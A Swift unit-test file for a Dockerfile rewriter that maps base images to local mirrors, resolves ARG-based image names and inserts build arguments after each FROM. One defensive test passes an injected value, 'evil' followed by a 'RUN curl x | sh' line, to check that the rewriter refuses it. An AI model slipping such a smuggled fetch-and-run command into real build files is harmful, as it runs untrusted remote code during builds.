import Foundation
import Testing
import FlowCore
import FlowEngine
@testable import FlowSteps

/// The copy of the Dockerfile `build` builds from: the image map applied to FROM and
/// `COPY --from=<image>` at their byte spans, `ARG`s before FROM resolved first, stages left
/// alone, everything else byte for byte.
@Suite struct BuildDockerfileRewriteTests {
    let map = ["python:3.11-slim": "localhost/flow/python:3.11-bookworm", "busybox:1.36": "localhost/flow/busybox:1"]

    func rewrite(_ text: String, buildArgs: [String: String] = [:], add: [String] = []) throws -> BuildDockerfile {
        let parsed = DockerfileParser.parse(text, file: "Dockerfile", buildArgs: buildArgs)
        return try BuildDockerfile.rewrite(parsed, addArguments: add) { map[$0] ?? $0 }
    }

    @Test func fromAndCopyFromImagesAreMappedAndStagesAreNot() throws {
        let text = try String(contentsOf: Self.fixture("multistage.Dockerfile"), encoding: .utf8)
        let result = try rewrite(text)
        let expected = try String(contentsOf: Self.fixture("multistage.expected"), encoding: .utf8)
        #expect(result.changed)
        #expect(result.text == expected)
        #expect(result.replacements.map { "\($0.line): \($0.original) → \($0.replacement)" } == [
            "3: python:3.11-slim → localhost/flow/python:3.11-bookworm",
            "7: busybox:1.36 → localhost/flow/busybox:1",
        ])
    }

    @Test func anArgBeforeFromIsResolvedWithBuildArgsThenDefaultsThenMapped() throws {
        let text = "ARG BASE=python:3.10-slim\nFROM ${BASE} AS app\nRUN echo $BASE\n"
        #expect(try !rewrite(text).changed)
        let mapped = try rewrite(text, buildArgs: ["BASE": "python:3.11-slim"])
        #expect(mapped.text == "ARG BASE=python:3.10-slim\nFROM localhost/flow/python:3.11-bookworm AS app\nRUN echo $BASE\n")
        #expect(mapped.replacements.first?.original == "python:3.11-slim")
        let byDefault = try rewrite("ARG BASE=python:3.11-slim\nFROM $BASE\n")
        #expect(byDefault.text == "ARG BASE=python:3.11-slim\nFROM localhost/flow/python:3.11-bookworm\n")
    }

    @Test func argumentsAreDeclaredAfterEveryFromIncludingContinuedLines() throws {
        let text = "FROM scratch AS a\nCOPY x /x\nFROM \\\n  python:3.12\nRUN true\n"
        let result = try rewrite(text, add: ["PIP_CERT", "SSL_CERT_FILE"])
        #expect(result.text == "FROM scratch AS a\nARG PIP_CERT\nARG SSL_CERT_FILE\nCOPY x /x\nFROM \\\n  python:3.12\nARG PIP_CERT\nARG SSL_CERT_FILE\nRUN true\n")
        #expect(result.replacements.isEmpty)
    }

    @Test func nothingToChangeLeavesTheUsersFile() throws {
        let result = try rewrite("FROM debian:12\nRUN true\n")
        #expect(!result.changed && result.text == "FROM debian:12\nRUN true\n")
    }

    @Test func aReplacementThatIsNotAnImageReferenceIsRefused() {
        let parsed = DockerfileParser.parse("FROM python:3.11-slim\n", file: "Dockerfile")
        #expect(throws: StepError.self) {
            try BuildDockerfile.rewrite(parsed, addArguments: []) { _ in "evil\nRUN curl x | sh" }
        }
    }

    static func fixture(_ name: String) -> URL {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures/Build").appendingPathComponent(name)
    }
}
